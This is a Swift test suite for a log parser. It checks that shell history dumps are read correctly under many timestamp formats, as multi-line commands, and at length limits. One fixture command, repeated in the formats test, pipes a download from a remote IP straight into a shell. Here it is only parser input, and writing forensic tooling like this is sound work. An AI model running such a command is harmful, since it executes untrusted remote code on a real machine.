import Bytes
import Evidence
import Testing

@testable import LogParse

/// `history` under the formats that HISTTIMEFORMAT is commonly set to.
@Suite struct HistoryCaptureTests {
  private func rows(_ lines: String...) throws -> [Event] {
    let text = lines.enumerated().map { "    \($0 + 1)  \($1)\n" }.joined()
    let dump = try EventDump(text, path: "history.txt")
    #expect(dump.format == "capture.history")
    return dump.events
  }

  @Test(arguments: [
    ("Wed Nov 25 05:20:12 2026", "2026-11-25T05:20:12Z"), ("Wed 25 Nov 2026 05:20:12 PM UTC", "2026-11-25T17:20:12Z"),
    ("Wed 25 Nov 2026 02:20:12 PM KST", "2026-11-25T05:20:12Z"),
    ("Mi 25 Nov 2026 05:20:12 CET", "2026-11-25T04:20:12Z"),
    ("11/25/26 12:20:12 AM", "2026-11-25T00:20:12Z"), ("11/25/26 05:20:12 PM", "2026-11-25T17:20:12Z"),
    ("2026-11-25 05:20:12 KST", "2026-11-24T20:20:12Z"), ("2026-11-25 05:20:12 CST", "2026-11-25T05:20:12Z"),
    ("2026-11-25 05:20:12 +0900", "2026-11-24T20:20:12Z"), ("1795584012", "2026-11-25T05:20:12Z"),
    ("[2026-11-25 05:20:12]", "2026-11-25T05:20:12Z"),
  ])
  func formats(_ stamp: String, _ time: String) throws {
    let events = try rows("\(stamp) ls -la", "\(stamp) MAKE all", "\(stamp) curl http://203.0.113.9/a | sh")
    #expect(events.map { $0.text("command") } == ["ls -la", "MAKE all", "curl http://203.0.113.9/a | sh"], "\(stamp)")
    #expect(events.map { $0.time?.description } == [time, time, time], "\(stamp)")
  }

  @Test func aTimeOfDayIsNoPartOfTheCommand() throws {
    let events = try rows("05:20:12 ls -la", "05:20:13 PM id")
    #expect(events.map { $0.text("command") } == ["ls -la", "id"] && events.allSatisfy { $0.time == nil })
    #expect(events.map { $0.text("time_of_day") } == ["05:20:12", "05:20:13 PM"])
  }

  @Test func commandsThatLookLikeTimes() throws {
    let commands = ["1795584012", "12345 x", "05:20 x", "99999999999 x", "Wed 25 Nov x", "EST", "2026-11-25 x"]
    for command in commands {
      let events = try rows(command, "id")
      #expect(events.first?.text("command") == command && events.first?.time == nil, "\(command)")
    }
    // Nothing but a zone behind the time is what was typed.
    #expect(try rows("2026-11-25 05:20:12 EST", "id").first?.text("command") == "EST")
  }

  @Test func aCommandOfSeveralLines() throws {
    let text = "    1  for i in 1 2; do\necho $i\ndone\n    2  id\n"
    let dump = try EventDump(text, path: "history.txt")
    #expect(dump.events.map { $0.text("command") } == ["for i in 1 2; do\necho $i\ndone", "id"])
    #expect(dump.events.first?.locator.length == 36 && dump.coverages.map(\.state) == [.parsed])
    // A command's own message is none of its lines, and without the name it is no history.
    let failed = try EventDump("    1  id\n    2  ls\nhistory: Permission denied\n", path: "history.txt")
    #expect(failed.events.map { $0.text("command") } == ["id", "ls"])
    #expect(EventDump.recognize(Array(text.utf8), path: "x.txt") == nil)
  }

  @Test func aCommandHasAnEnd() throws {
    let text = "    1  a\n" + String(repeating: String(repeating: "b", count: 1000) + "\n", count: 200)
    let dump = try EventDump(text, path: "history.txt")
    #expect((dump.events.first?.text("command")?.utf8.count ?? 0) < 1 << 17)
    #expect(dump.coverages.last?.state == .skipped)
  }
}
